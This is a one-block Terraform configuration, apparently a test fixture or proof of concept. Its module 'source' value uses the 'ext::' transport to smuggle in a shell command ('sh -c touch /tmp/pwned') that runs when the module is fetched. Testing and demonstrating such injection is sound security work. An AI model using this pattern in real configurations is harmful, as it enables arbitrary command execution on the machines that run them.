module "x" {
  source = "ext::sh -c touch% /tmp/pwned"
}
